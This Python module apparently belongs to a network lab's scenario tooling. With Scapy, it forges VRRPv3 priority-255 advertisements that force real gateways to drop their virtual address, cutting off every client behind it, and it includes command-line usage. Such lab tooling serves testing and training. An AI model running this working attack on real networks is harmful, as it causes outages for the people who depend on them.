"""Forged VRRP adverts with Scapy: an attack on redundancy itself (``python -m lab.packets.vrrp_forge``).

VRRPv3 (RFC 5798) has no authentication: any host on the LAN may send an
advert. One that claims priority 255 (the owner's, the highest there is)
for a group makes every real gateway of that group step down to BACKUP
and drop the virtual address, so nobody holds the VIP and every client
behind it is cut off, by a few dozen bytes a second. When the forged adverts
stop, the real gateways wait Master_Down_Interval and elect a master again.

This is what the scenario action ``hijack`` runs on the attacking node (and
``stop_hijack`` ends). It is bounded: it stops after ``--duration`` seconds
at most, and sends only on the lab's own interface.

    python -m lab.packets.vrrp_forge --iface c1-eth0 --interval 1 --group 51:10.0.0.1 [--group ...]
"""
from __future__ import annotations

import argparse
import sys

from lab.packets.forging import MAX_DURATION, repeat


def adverts(source: str, mac: str, groups: list[tuple[int, str]], interval: float) -> list[object]:
    """One forged advert per group: IP protocol 112 to 224.0.0.18, TTL 255 (RFC 5798 5.1), priority 255."""
    from scapy.all import IP, Ether
    from scapy.layers.vrrp import VRRPv3

    return [Ether(src=mac, dst="01:00:5e:00:00:12") / IP(src=source, dst="224.0.0.18", ttl=255)
            / VRRPv3(vrid=vrid, priority=255, ipcount=1, adv=max(1, round(interval * 100)), addrlist=[vip]) for vrid, vip in groups]


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m lab.packets.vrrp_forge")
    parser.add_argument("--iface", required=True)
    parser.add_argument("--interval", type=float, default=1.0, help="seconds between adverts (the group's own, to look real)")
    parser.add_argument("--group", action="append", required=True, help="VRID:VIP, e.g. 51:10.0.0.1")
    parser.add_argument("--duration", type=float, default=MAX_DURATION)
    args = parser.parse_args(argv)
    from scapy.all import get_if_addr, get_if_hwaddr

    groups = [(int(g.split(":")[0]), g.split(":")[1]) for g in args.group]
    packets = adverts(get_if_addr(args.iface), get_if_hwaddr(args.iface), groups, args.interval)
    sent = repeat(args.iface, packets, args.interval, args.duration)
    print(f"sent {sent} forged adverts", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
